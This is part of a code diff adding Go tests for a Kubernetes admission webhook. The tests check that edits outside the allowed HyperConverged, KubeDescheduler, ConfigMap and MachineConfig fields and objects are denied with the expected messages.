+			set(o, "x", "spec", "higherWorkloadDensity", "other")
+		})}, "changes only memoryOvercommitPercentage and ksmConfiguration"},
+		{"an HCO v1 field beside ours", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: baselineHCO("v1"), obj: edited(baselineHCO("v1"), func(o map[string]interface{}) {
+			set(o, int64(50), "spec", "virtualization", "liveMigrationConfig", "parallelMigrationsPerCluster")
+		})}, "changes only memoryOvercommitPercentage and ksmConfiguration"},
+		{"the HCO's memoryOvercommitPercentage (what the profile manages)", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
+			set(o, int64(200), "spec", "higherWorkloadDensity", "memoryOvercommitPercentage")
+		})}, ""},
+		{"deleting the HCO", request{op: admission.Delete, gvr: hyperConvergeds("v1beta1"), old: hcoObj}, "may not DELETE hco.kubevirt.io/hyperconvergeds"},
+		{"another HyperConverged", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: renamed(hcoObj, "default", "other"), obj: renamed(hcoObj, "default", "other")},
+			"writes only the hco.kubevirt.io/hyperconvergeds openshift-cnv/kubevirt-hyperconverged, not default/other"},
+		{"a KubeDescheduler field no profile manages", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kd, func(o map[string]interface{}) {
+			set(o, "TraceAll", "spec", "logLevel")
+		})}, "changes only spec.managementState, spec.deschedulingIntervalSeconds, spec.mode, spec.profiles, spec.profileCustomizations, spec.evictionLimits of operator.openshift.io/kubedeschedulers"},
+		{"creating a KubeDescheduler", request{op: admission.Create, gvr: kubeDeschedulers, obj: renamed(kd, "default", "cluster")}, "may not CREATE operator.openshift.io/kubedeschedulers"},
+		{"a ConfigMap elsewhere", request{op: admission.Create, gvr: configMaps, obj: renamed(cm, "kube-system", "example-config")},
+			"writes only the /configmaps openshift-cnv/example-config, not kube-system/example-config"},
+		{"deleting the example ConfigMap", request{op: admission.Delete, gvr: configMaps, old: cm}, "may not DELETE /configmaps"},
+		{"another kind of the MachineConfig API", request{op: admission.Create, gvr: schema.GroupVersionResource{Group: "machineconfiguration.openshift.io", Version: "v1", Resource: "kubeletconfigs"},
+			obj: renamed(psi, "", "evil")}, "writes only MachineConfigs, MachineConfigPools, the HyperConverged, the KubeDescheduler and one ConfigMap, not machineconfiguration.openshift.io/kubeletconfigs"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := review(t, v, tc.r)
+			switch {
+			case tc.want == "" && got != "":
+				t.Errorf("denied: %s", got)
+			case tc.want != "" && !strings.Contains(got, tc.want):
+				t.Errorf("denial %q\nwant one containing %q", got, tc.want)
+			}
+		})
+	}
+}
